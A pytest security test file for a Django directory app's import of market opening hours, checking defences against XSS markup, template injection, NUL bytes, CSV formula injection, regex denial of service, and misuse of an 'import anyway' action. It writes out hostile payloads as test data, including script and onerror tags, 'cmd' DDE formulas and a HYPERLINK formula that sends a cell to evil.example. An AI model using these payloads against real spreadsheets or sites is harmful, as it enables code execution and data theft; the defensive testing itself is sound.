"""Attacks on opening hours in partner-list imports (directory.hours, directory.imports):
markup and template syntax in hours kept verbatim, spreadsheet formulas in the report CSV,
pathological hours strings, hours the database refuses, and « Importer quand même » by the
wrong person, on the wrong row or the wrong way."""

import csv
import io
import time

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from directory.hours.french import parse_french
from directory.hours.osm import parse_osm
from directory.hours.reading import read_hours
from directory.imports import runs
from directory.models import Actor, ActorKind, ImportRecord, ImportSource, RecordAction, RunStatus
from tests.importing import analysed, csv_file, imported

pytestmark = pytest.mark.django_db

HEADER = ["id", "Nom", "Type", "Latitude", "Longitude", "Horaires"]
TRIGGERS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")


@pytest.fixture
def source(db):
    return ImportSource.objects.create(
        name="Réseau des marchés", slug="marches", licence="ODbL 1.0", publish=True
    )


def _file(tmp_path, rows, header=HEADER, name="liste.csv"):
    return csv_file(tmp_path, header, rows, name)


def _analysed(source, path, default_kind=ActorKind.MARKET):
    return analysed(source, path, default_kind)


_imported = imported


def _row(key, hours, name=None, lat="47.5900", lon="1.3300"):
    return [key, name or f"Marché {key}", "Marché", lat, lon, hours]


def _api(body):
    return body.get("properties", body)


# --- Markup, template syntax, NUL bytes in hours kept verbatim ---------------------------

MARKUP = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>jeudi sur rendez-vous"
    "</p><svg onload=alert(3)>"
)
TEMPLATE = "{{ 7*7 }} {% debug %} {{request.user.password}} %(text)s %s sur rendez-vous"


def test_markup_and_template_syntax_in_hours_are_inert_on_the_page_and_in_the_api(
    tmp_path, source, territories, client
):
    run = _imported(
        _analysed(source, _file(tmp_path, [_row("M-1", MARKUP), _row("M-2", TEMPLATE, lat="47.7")]))
    )
    markup = Actor.objects.get(source=source.code, source_key="M-1")
    template = Actor.objects.get(source=source.code, source_key="M-2")
    assert run.counts.get("hours:kept") == 2
    # Stored as words: no tag survives the import.
    assert "<" not in markup.hours_text and "onerror" not in markup.hours_text
    assert markup.hours_text.endswith("jeudi sur rendez-vous")
    page = client.get(markup.get_absolute_url())
    assert page.status_code == 200
    body = page.content.decode()
    assert "alert(1)" not in body and "<img src=x" not in body and "<svg onload" not in body
    # Template syntax is shown, not evaluated (no double rendering, no debug dump).
    assert template.hours_text == TEMPLATE
    page = client.get(template.get_absolute_url())
    assert page.status_code == 200
    body = page.content.decode()
    assert "{{ 7*7 }} {% debug %} {{request.user.password}} %(text)s %s" in body
    assert "sql_queries" not in body and "pbkdf2" not in body
    api = client.get(f"/api/v1/actors/{template.slug}/")
    assert api.status_code == 200
    assert _api(api.json())["hours_text"] == TEMPLATE


def test_entity_encoded_markup_in_hours_never_becomes_a_stored_tag(
    tmp_path, source, territories, client
):
    level = "amp;" * 4
    payload = f"&{level}lt;script&{level}gt;alert(1)&{level}lt;/script&{level}gt; sur rendez-vous"
    _imported(_analysed(source, _file(tmp_path, [_row("E-1", payload)])))
    actor = Actor.objects.get(source=source.code, source_key="E-1")
    api = _api(client.get(f"/api/v1/actors/{actor.slug}/").json())
    assert "<script" not in actor.hours_text
    assert "<script" not in api["hours_text"]


def test_nul_bytes_in_hours_do_not_reach_the_listing(tmp_path, source, territories, client):
    _imported(
        _analysed(
            source,
            _file(
                tmp_path, [_row("N-1", "lundi\x00 sur rendez-vous\x00"), _row("N-2", "\x00" * 50)]
            ),
        )
    )
    for actor in Actor.objects.filter(source=source.code):
        assert "\x00" not in actor.hours_text
        assert client.get(actor.get_absolute_url()).status_code == 200
    assert read_hours({"opening_hours": "lundi 8h\x00-12h"})[1].count("\x00") == 0


# --- Spreadsheet formulas in the report CSV ------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "lundi;=1+1 sur rendez-vous",
    "jeudi, =cmd|' /C calc'!A0 rdv",
    "\uff1dcmd|' /C calc'!A0",
]


def _dangerous(cells):
    found = []
    for cell in cells:
        stripped = cell.lstrip(' \t\r\n"')
        if stripped.startswith(TRIGGERS) and any(
            m in cell for m in ("cmd", "HYPERLINK", "SUM", "1+1")
        ):
            found.append(cell)
    return found


def test_formulas_in_hours_names_and_keys_are_defused_in_the_report_csv(
    tmp_path, source, territories, boss, client
):
    rows = []
    for n, formula in enumerate(FORMULAS):
        lat = f"{47.0 + n * 0.1:.4f}"
        rows.append([f"F-{n}", f"Marché {n}", "Marché", lat, "1.3300", formula])
    rows.append(["=1+1", '=HYPERLINK("http://x")', "Marché", "46.5", "1.33", "@SUM(1)"])
    run = _analysed(source, _file(tmp_path, rows))
    client.force_login(boss)
    response = client.get(f"/staff/imports/{run.pk}/rapport.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "HYPERLINK" in text and "cmd" in text  # the payloads are in the file…
    for delimiter in (";", ",", "\t"):
        cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
        assert not _dangerous(cells), (delimiter, _dangerous(cells))  # …never as a formula
    # A reader that splits on every separator, ignoring quotes.
    import re

    pieces = re.split(r"[;,\t\r\n]", text)
    assert not _dangerous(pieces), _dangerous(pieces)


# --- Pathological hours strings ------------------------------------------------------------

PATHOLOGICAL = {
    "opening_hours 100k letters": {"opening_hours": "a" * 100_000},
    "opening_hours 100k rules": {"opening_hours": "lundi 8h-12h, " * 7_000},
    "opening_hours 100k '<'": {"opening_hours": "<" * 100_000},
    "opening_hours 1000 osm rules": {"opening_hours": "Mo-Fr 08:00-12:00; " * 52},
    "opening_hours 1000 osm intervals": {
        "opening_hours": (
            "Mo-Su "
            + ",".join(
                f"{h:02d}:{m:02d}-{h:02d}:{m + 1:02d}" for h in range(24) for m in range(0, 58, 2)
            )
        )[:1000]
    },
    "opening_hours 1000 osm dates": {
        "opening_hours": "; ".join(
            f"Jan{d:02d}-Dec{d:02d} Mo-Su 08:00-09:00" for d in range(1, 29)
        )[:1000]
    },
    "day column 100k days": {"day_mo": "lundi " * 16_000},
    "day column 100k intervals": {"day_mo": "8h-12h, " * 12_500},
    "day column 100k digits": {"day_mo": "1" * 100_000},
    "day column 100k 'entre'": {"day_mo": "entre 1 " * 12_500},
    "day column 100k spaces": {"day_mo": "8" + " " * 100_000 + "x"},
    "day column 100k holidays": {"day_mo": "ferme" + " " * 100_000 + "jours feries"},
    "day column 100k 'h'": {"day_mo": "8h" * 50_000},
    "hour columns 100k": {"day_mo": "1", "opens": "8" * 100_000, "closes": "9h"},
}


@pytest.mark.parametrize("values", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
def test_pathological_hours_are_read_quickly(values):
    parse_french.cache_clear()
    parse_osm.cache_clear()
    started = time.monotonic()
    hours, text = read_hours(values)
    # A denial-of-service guard, not a speed measure: linear work takes milliseconds here,
    # the quadratic regex this caught took 7 to 37 s.
    assert time.monotonic() - started < 5, "a pathological cell stalls the import"
    assert len(text) <= 100_010


def test_unclosed_tags_in_hours_do_not_stall_the_import():
    parse_french.cache_clear()
    parse_osm.cache_clear()
    started = time.monotonic()
    read_hours({"opening_hours": "<p" * 65_000})  # 130,000 characters: one CSV cell
    assert time.monotonic() - started < 5, "unclosed tags made the markup cleaner quadratic"


# --- Hours the database refuses --------------------------------------------------------------


@pytest.mark.parametrize(
    "hours",
    ["lundi 25h-26h", "lundi 24h30-25h", "lundi 18h-8h", "lundi de 12h à 9h", "Mo 25:00-26:00"],
)
def test_impossible_hours_are_kept_as_text_and_the_import_completes(
    tmp_path, source, territories, boss, hours
):
    run = _analysed(source, _file(tmp_path, [_row("H-1", hours)]))
    client = Client(raise_request_exception=False)
    client.force_login(boss)
    assert client.post(f"/staff/imports/{run.pk}/confirmer/").status_code == 302
    assert client.post(f"/staff/imports/{run.pk}/etape/").status_code == 302
    run.refresh_from_db()
    assert run.status == RunStatus.DONE
    actor = Actor.objects.get(source=source.code, source_key="H-1")
    assert all(s.closes > s.opens for s in actor.opening_slots.all())


@pytest.mark.parametrize(
    "header,row",
    [
        (HEADER, _row("H-1", "lundi de 24h à 24h")),
        (HEADER, _row("H-1", "lundi de minuit à minuit")),
        (HEADER, _row("H-1", "lundi de 23h59 à minuit")),
        (HEADER, _row("H-1", "Mo 23:59-24:00")),
        (
            ["id", "Nom", "Type", "Latitude", "Longitude", "LUNDI", "Heure début", "Heure fin"],
            ["H-1", "Marché H-1", "Marché", "47.59", "1.33", "1", "24h", "24h"],
        ),
    ],
    ids=[
        "french 24-24",
        "french minuit-minuit",
        "french 23h59-minuit",
        "osm 23:59-24:00",
        "columns",
    ],
)
def test_hours_ending_at_midnight_never_break_the_import(
    tmp_path, source, territories, boss, header, row
):
    ok = _row("OK-1", "samedi 8h-13h", lat="47.7")
    run = _analysed(source, _file(tmp_path, [row, ok], header=header))
    client = Client(raise_request_exception=False)
    client.force_login(boss)
    assert client.post(f"/staff/imports/{run.pk}/confirmer/").status_code == 302
    assert client.post(f"/staff/imports/{run.pk}/etape/").status_code != 500
    run.refresh_from_db()
    assert run.status == RunStatus.DONE, run.status
    for actor in Actor.objects.filter(source=source.code):
        assert all(s.closes > s.opens for s in actor.opening_slots.all())


# --- « Importer quand même » -------------------------------------------------------------------


def _skipped(tmp_path, source, make_actor, lat=47.8, name="liste.csv"):
    """A run with one row skipped as a probable duplicate (same phone as a listing)."""
    make_actor(lat=lat, lon=1.6, name="Pains et Délices", phone="02 54 55 55 55")
    path = _file(
        tmp_path,
        [["P-1", "Pains & Délices", "Boulangerie", f"{lat + 0.1}", "1.7", "02 54 55 55 55"]],
        header=["id", "Nom", "Type", "Latitude", "Longitude", "Téléphone"],
        name=name,
    )
    run = _analysed(source, path, default_kind=ActorKind.ARTISAN)
    record = run.records.get()
    assert record.action == RecordAction.SKIP and record.data.get("duplicate_skip")
    return run, record


def _url(run, record):
    return f"/staff/imports/{run.pk}/lignes/{record.pk}/importer/"


def _unchanged(record, run):
    counts = dict(run.counts)
    record.refresh_from_db()
    run.refresh_from_db()
    assert record.action == RecordAction.SKIP and record.data.get("duplicate_skip")
    assert run.counts == counts


def test_import_anyway_works_for_an_importer(tmp_path, source, make_actor, importer):
    run, record = _skipped(tmp_path, source, make_actor)
    client = Client(enforce_csrf_checks=True)
    client.force_login(importer)
    client.get(f"/staff/imports/{run.pk}/")
    token = client.cookies["csrftoken"].value
    assert client.post(_url(run, record), {"csrfmiddlewaretoken": token}).status_code == 302
    record.refresh_from_db()
    assert record.action == RecordAction.CREATE
    # Twice: counted once.
    client.post(_url(run, record), {"csrfmiddlewaretoken": token})
    run.refresh_from_db()
    assert run.counts[RecordAction.CREATE] == 1 and run.counts[RecordAction.SKIP] == 0


def test_import_anyway_on_another_runs_record_is_404(
    tmp_path, source, other_source, make_actor, boss, client
):
    run_a, _record_a = _skipped(tmp_path, source, make_actor, name="a.csv")
    run_b, record_b = _skipped(tmp_path, other_source, make_actor, lat=46.8, name="b.csv")
    client.force_login(boss)
    assert client.post(_url(run_a, record_b)).status_code == 404
    _unchanged(record_b, run_b)
    run_a.refresh_from_db()
    assert run_a.counts.get(RecordAction.CREATE, 0) == 0


def test_import_anyway_after_confirmation_or_import_is_refused(
    tmp_path, source, make_actor, boss, client
):
    run, record = _skipped(tmp_path, source, make_actor)
    client.force_login(boss)
    runs.confirm(run)  # confirmed, not yet applied
    run.refresh_from_db()
    assert client.post(_url(run, record)).status_code == 302
    _unchanged(record, run)
    assert runs.step(run)
    run.refresh_from_db()
    assert run.status == RunStatus.DONE
    assert client.post(_url(run, record)).status_code == 302
    _unchanged(record, run)
    assert not Actor.objects.filter(source=source.code, source_key="P-1").exists()


def test_import_anyway_on_an_ordinary_record_is_refused(
    tmp_path, source, territories, boss, client
):
    rows = [
        _row("A", "samedi 8h-13h"),
        _row("B", "mardi 8h-12h", lat="47.6"),
        _row("B", "lundi 8h-12h", lat="47.7"),
    ]
    run = _analysed(source, _file(tmp_path, rows))
    repeated = run.records.get(line=4)
    created = run.records.get(line=2)
    assert repeated.action == RecordAction.SKIP and not repeated.data.get("duplicate_skip")
    client.force_login(boss)
    counts = dict(run.counts)
    client.post(_url(run, repeated))
    client.post(_url(run, created))
    repeated.refresh_from_db()
    run.refresh_from_db()
    assert repeated.action == RecordAction.SKIP and run.counts == counts
    # An id that does not exist: 404, no 500.
    assert client.post(f"/staff/imports/{run.pk}/lignes/999999/importer/").status_code == 404
    assert client.post(f"/staff/imports/999999/lignes/{created.pk}/importer/").status_code == 404


@pytest.mark.parametrize("who", ["anonymous", "signed-in", "staff without permission"])
def test_import_anyway_needs_the_permission(tmp_path, source, make_actor, who):
    run, record = _skipped(tmp_path, source, make_actor)
    client = Client()
    if who != "anonymous":
        user = get_user_model().objects.create_user(
            "curieux", password="x", is_staff=who == "staff without permission"
        )
        client.force_login(user)
    response = client.post(_url(run, record))
    assert response.status_code in (302, 403)
    if who != "anonymous":
        assert response.status_code == 403
    _unchanged(record, run)


def test_import_anyway_refuses_get_and_missing_csrf(tmp_path, source, make_actor, boss):
    run, record = _skipped(tmp_path, source, make_actor)
    client = Client(enforce_csrf_checks=True)
    client.force_login(boss)
    assert client.get(_url(run, record)).status_code == 405
    assert client.head(_url(run, record)).status_code == 405
    assert client.post(_url(run, record)).status_code == 403
    assert client.post(_url(run, record), {"csrfmiddlewaretoken": "x" * 64}).status_code == 403
    _unchanged(record, run)
    assert ImportRecord.objects.filter(run=run, action=RecordAction.CREATE).count() == 0
